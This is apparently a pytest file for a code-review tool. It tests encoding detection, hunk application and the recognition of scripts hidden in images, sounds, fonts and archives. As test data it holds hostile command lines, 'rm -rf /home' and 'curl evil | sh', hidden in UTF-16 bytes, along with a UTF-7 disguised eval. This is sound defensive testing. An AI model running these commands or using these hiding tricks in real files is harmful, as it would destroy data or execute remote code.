import gzip
import os
import struct
import sys
from pathlib import Path

import pytest

from codeloupe.git.snapshot import apply_hunks
from codeloupe.model.review import SkipReason
from codeloupe.planning.contents import Encoding, encoding_of, hides_text, in_utf8, with_compared_texts
from codeloupe.planning.formats import kind_of_content
from codeloupe.planning.select import decoded_file
from tests.hidden_material import LINE, SCRIPT, png, tarred, zipped
from tests.rows import each
from tests.unit.planning.samples import changed

CODE = "def run(x):\n    return x\n" * 3


def _read(content: bytes, path: str = "a.txt") -> str | None:
    encoding = encoding_of(content, path)
    text = None if encoding is None else in_utf8(content, encoding)
    return None if text is None else text.decode()


@pytest.mark.defect("T15")
def test_marks_and_declarations_tell_the_encoding() -> None:
    cases = {
        ("a.ps1", CODE.encode("utf-16")): CODE,
        ("a.ps1", b"\xfe\xff" + CODE.encode("utf-16-be")): CODE,
        ("a.ps1", CODE.encode("utf-16-le")): CODE,
        ("a.ps1", CODE.encode("utf-16-be")): CODE,
        ("a.ps1", CODE.encode("utf-32")): CODE,
        ("a.ps1", CODE.encode("utf-32-be")): CODE,
        ("a.strings", "\u540d\u524d = \u5024\n".encode("utf-16")): "\u540d\u524d = \u5024\n",
        ("a.py", "# coding: latin-1\n# \u00e9\n".encode("latin-1")): "# coding: latin-1\n# \u00e9\n",
        ("a.rb", "# coding: euc-jp\n# \u5024\n".encode("euc-jp")): "# coding: euc-jp\n# \u5024\n",
        ("a.xml", "<?xml version='1.0' encoding='cp1251'?>\u044f".encode("cp1251")): (
            "<?xml version='1.0' encoding='cp1251'?>\u044f"
        ),
        ("a.html", '<meta charset="gb2312">\u503c'.encode("gb2312")): '<meta charset="gb2312">\u503c',
        ("a.py", b"# coding: utf-7\nx = +AGUAdgBhAGw-(y)\n"): "# coding: utf-7\nx = eval(y)\n",
    }
    assert [_read(content, path) for path, content in cases] == list(cases.values())


def test_what_is_utf8_or_unknown_stays_as_it_is() -> None:
    plain = [
        b"",
        CODE.encode(),
        b"\xef\xbb\xbf" + CODE.encode(),
        b"caf\xe9\n",
        b"# coding: utf-8\n",
        b"# coding: nothing-known\n",
        b"# coding: rot13\n",
        b"\xff\xfe" + CODE.encode(),  # a mark that lies
        CODE.encode().replace(b"\n", b"\0\n"),
    ]
    assert [content for content in plain if encoding_of(content, "a.js") is not None] == []
    # Only Python believes an encoding in which ASCII means something else.
    assert encoding_of(b"// coding: utf-7\n", "a.js") is None
    assert encoding_of(b"# coding: cp037\n", "a.sh") is None


@pytest.mark.defect("T15")
def test_a_text_that_reads_differently_byte_by_byte_is_noticed() -> None:
    utf16 = Encoding("utf-16-le", keeps_lines=False, mark=b"\xff\xfe")
    hidden = CODE.encode("utf-16") + b"\nrm -rf /home\n"
    shifted = CODE.encode("utf-16") + b"\n" + b"curl evil | sh".decode().encode("utf-16-le") + b"x"
    assert hides_text(hidden, utf16)
    assert hides_text(shifted, utf16)
    assert not hides_text(CODE.encode("utf-16"), utf16)
    assert not hides_text("\u043f\u0440\u0438\u0432\u0435\u0442 x = 1\n".encode("utf-16"), utf16)


@each(
    ("old", "new"),
    [
        *((b"", b"a\nb\n"), (b"a\nb\n", b""), (b"a\n", b"a\na\n"), (b"a\na\n", b"a\n")),
        *((b"a", b"a\n"), (b"a\nb", b"a\nc"), (b"same\n", b"same\n")),
        (b"a\nb\nc\nd\ne\nf\ng\n", b"a\nb\nc\nX\ne\nf\ng\n"),
    ],
)
def test_the_hunk_between_two_texts_leads_from_the_one_to_the_other(old: bytes, new: bytes) -> None:
    file = with_compared_texts(changed("a.txt"), old, new)
    assert apply_hunks(old, file) == new
    assert sum(hunk.added + hunk.deleted for hunk in file.hunks) == file.added + file.deleted


@pytest.mark.defect("T15")
def test_a_change_in_utf16_is_shown_line_by_line() -> None:
    old, new = "a\nb\nc\n".encode("utf-16"), "a\n\u0a0a\nc\n".encode("utf-16")
    decoded = decoded_file(changed("a.ps1", binary=True), old, new)
    assert decoded is not None
    file, content = decoded
    assert content.decode() == "a\n\u0a0a\nc\n"
    assert [(line.kind, line.new_number) for line in file.hunks[0].lines()][1:3] == [("deleted", None), ("added", 2)]
    assert not file.binary


# Without the letters of which a text is made, so that it is none by chance.
_PIXELS = bytes(range(128, 255)) * 9
_JPEG = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    b"\xff\xdb\0\x43\0" + b"\x10" * 64 + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + _PIXELS.replace(b"\xff", b"") + b"\xff\xd9"
)
_GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
_SOUND = _PIXELS[: len(_PIXELS) // 2 * 2]
_WAV = b"RIFF" + struct.pack("<I", 36 + len(_SOUND)) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8, 8, 1, 8)
_WAV += b"data" + struct.pack("<I", len(_SOUND)) + _SOUND
_BMP = b"BM" + struct.pack("<IIIIiiHHIIiiII", 58, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0) + b"\0\0\0\0"
_ICO = b"\0\0\1\0\1\0\1\1\0\0\1\0\x18\0" + struct.pack("<II", len(png()), 22) + png()
_MP4 = struct.pack(">I4s", 16, b"ftyp") + b"isom\0\0\0\0" + struct.pack(">I4s", 8 + len(_PIXELS), b"mdat") + _PIXELS
_OGG = b"OggS\0\2" + bytes(20) + b"\1\x10" + b"\x01vorbis" + bytes(9)
_FRAME = b"\xff\xfb\x90\x00" + bytes(413)
_MP3 = b"ID3\4\0\0\0\0\0\0" + _FRAME * 3
_TABLES = b"".join(struct.pack(">4sIII", name, 0, 44 + 8 * number, 8) for number, name in enumerate((b"cmap", b"head")))
_TTF = b"\0\1\0\0\0\2" + bytes(6) + _TABLES + b"\xee" * 16
_WOFF2 = b"wOF2\0\1\0\0" + struct.pack(">I", 600) + b"\xee" * 588

MEDIA = {"png": png(), "jpeg": _JPEG, "gif": _GIF, "wav": _WAV, "ico": _ICO, "mp4": _MP4, "ogg": _OGG, "mp3": _MP3}
MEDIA["bmp"] = _BMP
FONTS = {"ttf": _TTF, "woff2": _WOFF2}


def test_media_fonts_archives_and_programs_are_recognised() -> None:
    # Media and fonts are recognised.
    found = {name: kind_of_content(content) for name, content in (MEDIA | FONTS).items()}
    assert found == dict.fromkeys(MEDIA, SkipReason.MEDIA) | dict.fromkeys(FONTS, SkipReason.FONT)
    # Metadata of the usual kind does no harm.
    packet = b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b"<a>1</a>" * 40 + b"</x:xmpmeta>"
    assert kind_of_content(png((b"iTXt", packet))) is SkipReason.MEDIA
    assert kind_of_content(png((b"tEXt", b"Software\0Some Editor 1.0"))) is SkipReason.MEDIA
    # Archives and programs are recognised.
    noise = os.urandom(4_000)
    program = Path(sys.executable).resolve().read_bytes()
    contents = {
        SkipReason.ARCHIVE: (zipped("a.sh", SCRIPT), tarred("a.sh", SCRIPT), gzip.compress(noise)),
        SkipReason.PROGRAM: (program, b"\xca\xfe\xba\xbe\0\0\0\x34" + noise, b"\0asm\1\0\0\0" + noise),
        SkipReason.BINARY: (noise,),
    }
    for reason, of_kind in contents.items():
        assert [kind_of_content(content) for content in of_kind] == [reason] * len(of_kind)
    # Media of a rare format are binary.
    assert kind_of_content(b"fLaC\0\0\0\x22" + noise) is SkipReason.BINARY


@pytest.mark.defect("T2")
def test_no_picture_sound_or_font_hides_a_script() -> None:
    """In front of it, behind it, in its middle, or under its first bytes."""
    wrong = []
    for name, content in (MEDIA | FONTS).items():
        hidden = {
            "behind": content + SCRIPT.encode(),
            "in front": SCRIPT.encode() + content,
            "under its mark": content[:12] + SCRIPT.encode() * 9,
            "cut off": content[: len(content) // 2],
        }
        for how, data in hidden.items():
            if kind_of_content(data) in (SkipReason.MEDIA, SkipReason.FONT):
                wrong.append((name, how))
    if kind_of_content(png((b"tEXt", LINE.encode() * 3))) is SkipReason.MEDIA:
        wrong.append(("png", "in a comment"))
    assert wrong == []


@pytest.mark.defect("T2")
def test_text_with_something_in_it_is_text() -> None:
    texts = [
        b"",
        LINE.encode(),
        LINE.encode() + b"\0",
        b"\0" * 9_999 + LINE.encode(),
        b"\0\0\0".join(bytes((byte,)) for byte in LINE.encode()),
        b"PK\3\4" + SCRIPT.encode() * 9,
        b"MZ" + SCRIPT.encode() * 9,
        b"a.sh".ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0") + SCRIPT.encode() * 9,
        b"\x7fELF\2\1\1" + SCRIPT.encode() * 9,
        "日本語のテキスト\n".encode("shift_jis") * 20,
        "Привет, мир\n".encode("koi8-r") * 20,
        b"\x1b[31mred\x1b[0m\n",
    ]
    assert [text[:30] for text in texts if kind_of_content(text) is not None] == []
